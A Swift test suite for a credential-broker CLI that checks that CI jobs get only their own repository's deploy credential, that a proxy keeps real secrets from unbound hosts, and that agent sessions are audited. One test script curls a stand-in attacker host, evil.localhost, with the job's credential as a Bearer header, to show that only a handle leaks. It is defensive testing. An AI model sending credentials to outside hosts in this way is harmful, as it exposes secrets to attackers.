import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif
import KontextTestSupport
import Testing

/// `kontext broker serve` as a child process, on an ephemeral loopback port.
final class ServedBroker: @unchecked Sendable {
    let process = Process()
    let baseURL: String

    /// `listen`: `127.0.0.1:0` for a free port, or a restarted broker's former address.
    init(config: String, database: String, environment: [String: String], log: URL, listen: String = "127.0.0.1:0") throws {
        process.executableURL = TestSupport.productsDirectory.appendingPathComponent("kontext-cli")
        process.arguments = ["broker", "serve", "--config", config, "--db", database, "--listen", listen]
        process.environment = environment
        let out = Pipe()
        process.standardOutput = out
        FileManager.default.createFile(atPath: log.path, contents: nil)
        process.standardError = try FileHandle(forWritingTo: log)
        process.standardInput = FileHandle.nullDevice
        try process.run()
        var text = ""
        let deadline = Date().addingTimeInterval(60)
        while !text.contains("\n"), Date() < deadline {
            let chunk = out.fileHandleForReading.availableData
            if chunk.isEmpty { break }
            text += String(decoding: chunk, as: UTF8.self)
        }
        guard let range = text.range(of: "listening on ") else {
            process.terminate()
            process.waitUntilExit()
            throw TimeoutError(seconds: 60, command: "kontext-cli broker serve: \(text) \((try? String(contentsOf: log, encoding: .utf8)) ?? "")")
        }
        baseURL = String(text[range.upperBound...].prefix { !$0.isWhitespace })
    }

    deinit {
        process.terminate()
        process.waitUntilExit()
    }
}

/// CI jobs against our broker: the job's OIDC token (from a stand-in GitHub Actions token
/// service, or a file) is the subject token; the broker's claim rules decide.
@Suite struct CIModeTests {
    struct Fixture {
        let scratch: URL
        let issuer: LoopbackServer
        let broker: ServedBroker
        let credential: String
        let requestToken: String
        /// The environment of a CI job: no keyring, no issuer login.
        var job: [String: String]
    }

    func fixture(_ label: String, config extraConfig: String = "") throws -> Fixture {
        let scratch = TestSupport.makeTemporaryDirectory(label)
        let requestToken = TestSupport.secret("\(label)-actions-request")
        let issuer = try LoopbackServer(script: "workload_issuer.py", arguments: ["--request-token-env", "REQUEST_TOKEN",
                                                                                 "--repository", "acme/app"],
                                        environment: ["REQUEST_TOKEN": requestToken], in: scratch)
        let config = scratch.appendingPathComponent("broker.toml")
        try """
            [[issuer]]
            issuer = "\(issuer.baseURL)"
            audiences = ["kontext"]
            users = false

            [[principal]]
            name = "ci:{repository}"
            claims = { repository = "acme/app", ref = "refs/heads/main" }

            [[grant]]
            principals = ["ci:acme/app"]
            services = ["deploy"]
            \(extraConfig)
            """.write(to: config, atomically: true, encoding: .utf8)
        let database = "sqlite:" + scratch.appendingPathComponent("broker.db").path
        let vaultKey = Data((0..<32).map { _ in UInt8.random(in: 0...255) }).base64EncodedString()
        var brokerEnvironment = ProcessInfo.processInfo.environment
        brokerEnvironment["KONTEXT_BROKER_VAULT_KEYS"] = "k1:\(vaultKey)"
        let credential = TestSupport.secret("\(label)-deploy")
        let add = Process()
        add.executableURL = TestSupport.productsDirectory.appendingPathComponent("kontext-cli")
        add.arguments = ["broker", "provider", "add", "deploy", "--config", config.path, "--db", database]
        add.environment = brokerEnvironment
        let added = try runProcess(add, stdin: credential + "\n", timeout: 60)
        #expect(added.status == 0, "\(added.stderr)")
        let broker = try ServedBroker(config: config.path, database: database, environment: brokerEnvironment,
                                      log: scratch.appendingPathComponent("broker.log"))
        return Fixture(scratch: scratch, issuer: issuer, broker: broker, credential: credential, requestToken: requestToken,
                       job: ["KONTEXT_TOKEN_ENDPOINT": broker.baseURL + "/oauth2/token"])
    }

    func githubJob(_ f: Fixture, repository: String? = nil) -> [String: String] {
        f.job.merging([
            "ACTIONS_ID_TOKEN_REQUEST_URL": f.issuer.baseURL + "/token" + (repository.map { "?repository=\($0)" } ?? ""),
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": f.requestToken,
        ]) { $1 }
    }

    /// Runs a command that records only the hash of the credential it received.
    func deploy(_ sandbox: Sandbox, _ environment: [String: String], arguments: [String] = []) throws -> (ProcessResult, String?) {
        let result = try sandbox.kontext(["run"] + arguments + ["--", "sh", "-c", #"printf %s "$DEPLOY_KEY" | sha256sum > hash"#],
                                         environment: environment)
        let hashFile = sandbox.workingDirectory.appendingPathComponent("hash")
        let hash = try? String(contentsOf: hashFile, encoding: .utf8)
        try? FileManager.default.removeItem(at: hashFile)
        return (result, hash.map { String($0.prefix(64)) })
    }

    /// Nothing under HOME (where the XDG directories are, too) in CI mode.
    func expectNothingPersisted(_ sandbox: Sandbox, sourceLocation: SourceLocation = #_sourceLocation) {
        let written = FileManager.default.enumerator(atPath: sandbox.home.path)?.allObjects as? [String] ?? []
        #expect(written.isEmpty, "CI mode wrote under HOME: \(written)", sourceLocation: sourceLocation)
    }

    @Test func aGitHubActionsJobGetsOnlyItsRepositorysCredential() throws {
        let f = try fixture("ci-github")
        let sandbox = Sandbox("ci-github")
        sandbox.write(".env.kontext", "DEPLOY_KEY=<<kontext:deploy>>\n", trusted: false)

        let (result, hash) = try deploy(sandbox, githubJob(f))
        #expect(result.status == 0, "\(result.stderr)")
        #expect(hash == (try sha256Hex(f.credential)))

        let whoami = try sandbox.kontext(["whoami"], environment: githubJob(f))
        #expect(whoami.status == 0, "\(whoami.stderr)")
        for line in ["mode:     ci", "platform: github-actions", "  repository: acme/app", "  sub: repo:acme/app:ref:refs/heads/main"] {
            #expect(whoami.stdout.contains(line), "\(whoami.stdout)")
        }
        #expect(!whoami.stdout.contains("eyJ"), "the token itself is never shown")

        // A job of another repository is refused by the broker's claim rules.
        let (refused, nothing) = try deploy(sandbox, githubJob(f, repository: "evil/app"))
        #expect(refused.status == 3, "\(refused.stderr)")
        #expect(refused.stderr.hasPrefix("kontext: the token service at \(f.broker.baseURL)/oauth2/token refused the workload identity from github-actions"),
                "\(refused.stderr)")
        #expect(nothing == nil, "nothing is launched")
        for output in [result, whoami, refused] {
            #expect(!output.stdout.contains("eyJ") && !output.stderr.contains("eyJ"))
            #expect(!output.stderr.contains(f.requestToken))
        }
        expectNothingPersisted(sandbox)
    }

    /// The broker binds hosts (broker.toml's `[[service]]`) and says so in each exchange
    /// answer (`kontext_hosts`): a job's `run --proxy` gets a handle for a service that no
    /// configuration of its own binds, and the proxy sends the credential only to those hosts.
    @Test func theBrokersHostBindingsReachTheJobsProxy() throws {
        let f = try fixture("ci-proxy", config: "[[service]]\nname = \"deploy\"\nhosts = [\"api.deploy.localhost\"]\n")
        let ca = try TestCA()
        let upstream = try Upstream(ca: ca)
        defer { upstream.stop() }
        let sandbox = Sandbox("ci-proxy")
        sandbox.write(".env.kontext", "DEPLOY_KEY=<<kontext:deploy>>\n", trusted: false)
        let script = """
            printf %s "$DEPLOY_KEY" > handle
            curl -sS -H "Authorization: Bearer $DEPLOY_KEY" https://api.deploy.localhost:\(upstream.port)/deploy; echo
            curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $DEPLOY_KEY" https://evil.localhost:\(upstream.port)/x
            """
        var environment = githubJob(f)
        environment["KONTEXT_CA_BUNDLE"] = ca.caFile
        let result = try sandbox.kontext(["run", "--proxy", "--", "sh", "-c", script], environment: environment)
        #expect(result.status == 0, "\(result.stderr)")
        // evil.localhost is bound to no service and tunnelled blind: its server got the handle, worthless.
        #expect(result.stdout == "{\"ok\": true}\n200", "\(result.stdout) \(result.stderr)")
        let handle = try String(contentsOf: sandbox.workingDirectory.appendingPathComponent("handle"), encoding: .utf8)
        #expect(handle.hasPrefix("kxh_"), "the job holds a handle, not the credential")
        let sent = upstream.requests().map { $0["authorization_sha256"] as? String }
        #expect(sent == [try sha256Hex("Bearer \(f.credential)"), try sha256Hex("Bearer \(handle)")])
        #expect(!result.stdout.contains(f.credential) && !result.stderr.contains(f.credential))
        expectNothingPersisted(sandbox)
    }

    /// `start` in a CI job: hooks are audited and shipped to the broker with the job's token,
    /// attributed to the workload, and nothing stays behind.
    @Test func aCIJobsSessionIsAuditedAtTheBroker() throws {
        let f = try fixture("ci-start")
        let sandbox = Sandbox("ci-start")
        let runtime = sandbox.root.appendingPathComponent("run")
        try FileManager.default.createDirectory(at: runtime, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
        sandbox.write("agent.sh", """
            for i in 1 2 3; do
              printf '{"tool_name":"Bash","tool_input":{"command":"make deploy-%s"}}' "$i" | "$KONTEXT_HOOK" hook pre-tool --agent claude >/dev/null || exit 9
            done
            printf '%s' "$KONTEXT_SESSION_ID" > session-id
            """)
        var job = githubJob(f)
        job["KONTEXT_AUDIT_URL"] = f.broker.baseURL
        job["KONTEXT_HOOK"] = TestSupport.kontextPath
        job["XDG_RUNTIME_DIR"] = runtime.path
        let result = try sandbox.kontext(["start", "--agent-command", "/bin/sh", "--", "agent.sh"], environment: job)
        #expect(result.status == 0, "\(result.stderr)")
        let sessionID = try String(contentsOf: sandbox.workingDirectory.appendingPathComponent("session-id"), encoding: .utf8)

        let token = try f.issuer.text("/mint?audience=kontext")
        let answer = try getJSON(f.broker.baseURL + "/v1/audit/events?session_id=\(sessionID)", bearer: token)
        let events = try #require(answer["events"] as? [[String: Any]], "\(answer)")
        // The three calls and the run's final checkpoint (SPEC section 12), which seals the chain.
        #expect(events.map { $0["event"] as? String } == ["pre-tool", "pre-tool", "pre-tool", "checkpoint"])
        #expect(events.compactMap { ($0["tool_input"] as? [String: Any])?["command"] as? String } == (1...3).map { "make deploy-\($0)" })
        // The broker stores the authenticated principal as the actor, and what the job claimed beside it.
        for event in events {
            #expect((event["actor"] as? [String: Any])?["sub"] as? String == "ci:acme/app")
            #expect((event["claimed_actor"] as? [String: Any])?["sub"] as? String == "repo:acme/app:ref:refs/heads/main")
        }
        #expect((try FileManager.default.contentsOfDirectory(atPath: runtime.appendingPathComponent("kontext").path)).isEmpty,
                "the session's directory, audit store included, is gone")

        // `kontext audit … --remote` reads the same through the broker's query API.
        let sessions = try sandbox.kontext(["audit", "sessions", "--remote"], environment: job)
        #expect(sessions.status == 0, "\(sessions.stderr)")
        #expect(sessions.stdout.contains(String(sessionID.prefix(12))) && sessions.stdout.contains("ci:acme/app"), "\(sessions.stdout)")
        let shown = try sandbox.kontext(["audit", "show", sessionID, "--remote"], environment: job)
        #expect(shown.status == 0, "\(shown.stderr)")
        #expect(shown.stdout.split(separator: "\n").filter { $0.contains("pre-tool  Bash") }.count == 3, "\(shown.stdout)")
        expectNothingPersisted(sandbox)
    }

    /// Each platform's way of handing the job its token, and which wins when several are set.
    @Test func everyPlatformIsDetectedInOrder() throws {
        let f = try fixture("ci-detect")
        let sandbox = Sandbox("ci-detect")
        let token = try f.issuer.text("/mint?audience=kontext")
        let file = f.scratch.appendingPathComponent("token")
        try token.write(to: file, atomically: true, encoding: .utf8)
        // A stand-in buildkite-agent that prints the token it is asked for.
        let bin = f.scratch.appendingPathComponent("bin")
        try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
        let agent = bin.appendingPathComponent("buildkite-agent")
        try """
            #!/bin/sh
            [ "$1 $2 $3 $4" = "oidc request-token --audience kontext" ] || exit 1
            cat '\(file.path)'
            """.write(to: agent, atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: agent.path)
        let path = bin.path + ":" + (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin")
        let cases: [([String: String], [String], String)] = [
            (["KONTEXT_ID_TOKEN": token], [], "KONTEXT_ID_TOKEN"),
            (["GITLAB_CI": "true", "KONTEXT_ID_TOKEN_VARIABLE": "GL_KONTEXT_TOKEN", "GL_KONTEXT_TOKEN": token], [], "gitlab"),
            (["CIRCLE_OIDC_TOKEN_V2": token], [], "circleci"),
            (["BUILDKITE": "true", "BUILDKITE_AGENT_ACCESS_TOKEN": "x", "PATH": path], [], "buildkite"),
            (githubJob(f), [], "github-actions"),
            // The explicit ones win: the flag, then KONTEXT_ID_TOKEN.
            (githubJob(f).merging(["KONTEXT_ID_TOKEN": token, "CIRCLE_OIDC_TOKEN_V2": token]) { $1 }, [], "KONTEXT_ID_TOKEN"),
            (githubJob(f).merging(["KONTEXT_ID_TOKEN": token]) { $1 }, ["--id-token-file", file.path], "id-token-file"),
        ]
        for (environment, arguments, platform) in cases {
            let whoami = try sandbox.kontext(["whoami"] + arguments, environment: environment)
            #expect(whoami.status == 0, "\(platform): \(whoami.stderr)")
            #expect(whoami.stdout.contains("platform: \(platform)\n"), "\(environment.keys.sorted()): \(whoami.stdout)")
            #expect(whoami.stdout.contains("  repository: acme/app"))
            #expect(!whoami.stdout.contains(token))
        }
        expectNothingPersisted(sandbox)
    }

    func getJSON(_ url: String, bearer: String) throws -> [String: Any] {
        var request = URLRequest(url: URL(string: url)!)
        request.setValue("Bearer " + bearer, forHTTPHeaderField: "Authorization")
        let done = DispatchSemaphore(value: 0)
        nonisolated(unsafe) var body = Data()
        URLSession.shared.dataTask(with: request) { data, _, _ in
            body = data ?? Data()
            done.signal()
        }.resume()
        _ = done.wait(timeout: .now() + 20)
        return (try JSONSerialization.jsonObject(with: body) as? [String: Any]) ?? [:]
    }

    @Test func aTokenFileIsTheJobsIdentityAndAnExpiredOneIsExitThree() throws {
        let f = try fixture("ci-file")
        let sandbox = Sandbox("ci-file")
        sandbox.write(".env.kontext", "DEPLOY_KEY=<<kontext:deploy>>\n", trusted: false)
        let current = f.scratch.appendingPathComponent("token")
        try (try f.issuer.text("/mint?audience=kontext")).write(to: current, atomically: true, encoding: .utf8)
        let expired = f.scratch.appendingPathComponent("expired-token")
        try (try f.issuer.text("/mint?audience=kontext&expired=1")).write(to: expired, atomically: true, encoding: .utf8)

        // --id-token-file, and KONTEXT_ID_TOKEN_FILE as a Kubernetes pod would set it.
        let (flag, flagHash) = try deploy(sandbox, f.job, arguments: ["--id-token-file", current.path])
        #expect(flag.status == 0, "\(flag.stderr)")
        #expect(flagHash == (try sha256Hex(f.credential)))
        let (variable, variableHash) = try deploy(sandbox, f.job.merging(["KONTEXT_ID_TOKEN_FILE": current.path]) { $1 })
        #expect(variable.status == 0, "\(variable.stderr)")
        #expect(variableHash == (try sha256Hex(f.credential)))

        let (stale, nothing) = try deploy(sandbox, f.job, arguments: ["--id-token-file", expired.path])
        #expect(stale.status == 3, "\(stale.stderr)")
        #expect(stale.stderr.hasPrefix("kontext: the workload token from id-token-file expired at "), "\(stale.stderr)")
        #expect(nothing == nil)

        let missing = try sandbox.kontext(["run", "--id-token-file", f.scratch.appendingPathComponent("absent").path, "--", "true"],
                                          environment: f.job)
        #expect(missing.status == 3)
        #expect(missing.stderr.hasPrefix("kontext: cannot read the workload token file"), "\(missing.stderr)")
        expectNothingPersisted(sandbox)
    }

    /// Tokens and audit events must not cross the network in clear: a plain http:// URL to a
    /// host that is not loopback is refused before anything is sent, unless the user opts in.
    @Test func plainHTTPToAHostThatIsNotLoopbackIsRefusedUnlessAllowed() throws {
        let sandbox = Sandbox("ci-plain-http")
        sandbox.write(".env.kontext", "DEPLOY_KEY=<<kontext:deploy>>\n")
        let job = ["KONTEXT_ID_TOKEN": "not-sent"]
        let cases = [
            ("KONTEXT_TOKEN_ENDPOINT", "http://kontext.example.com/oauth2/token"),
            ("KONTEXT_ISSUER_URL", "http://login.example.com"),
            ("KONTEXT_AUDIT_URL", "http://10.1.2.3:8080"),
        ]
        for (variable, url) in cases {
            let refused = try sandbox.kontext(["run", "--", "touch", "ran"], environment: job.merging([variable: url]) { $1 })
            #expect(refused.status == 2, "\(variable): \(refused.stderr)")
            let line = refused.stderr.split(separator: "\n").first.map(String.init) ?? ""
            #expect(line.hasPrefix("kontext: \(variable) "), "\(refused.stderr)")
            #expect(line.contains("KONTEXT_ALLOW_HTTP=1"), "\(refused.stderr)")
            #expect(!FileManager.default.fileExists(atPath: sandbox.workingDirectory.appendingPathComponent("ran").path))
            // Opted in: no longer refused for that reason (what follows fails elsewhere: nothing listens there).
            let allowed = try sandbox.kontext(["whoami"], environment: job.merging([variable: url, "KONTEXT_ALLOW_HTTP": "1"]) { $1 })
            #expect(!allowed.stderr.contains("KONTEXT_ALLOW_HTTP"), "\(variable): \(allowed.stderr)")
        }
        // Also from config.toml.
        let configDirectory = sandbox.home.appendingPathComponent(".config/kontext")
        try FileManager.default.createDirectory(at: configDirectory, withIntermediateDirectories: true)
        let config = configDirectory.appendingPathComponent("config.toml")
        try "token_endpoint = \"http://kontext.example.com/oauth2/token\"\n".write(to: config, atomically: true, encoding: .utf8)
        let fromConfig = try sandbox.kontext(["run", "--", "touch", "ran"], environment: job)
        #expect(fromConfig.status == 2, "\(fromConfig.stderr)")
        #expect(fromConfig.stderr.hasPrefix("kontext: KONTEXT_TOKEN_ENDPOINT "), "\(fromConfig.stderr)")
        try "token_endpoint = \"http://kontext.example.com/oauth2/token\"\nallow_http = true\n".write(to: config, atomically: true, encoding: .utf8)
        let optedIn = try sandbox.kontext(["whoami"], environment: job)
        #expect(!optedIn.stderr.contains("KONTEXT_ALLOW_HTTP"), "\(optedIn.stderr)")
    }
}
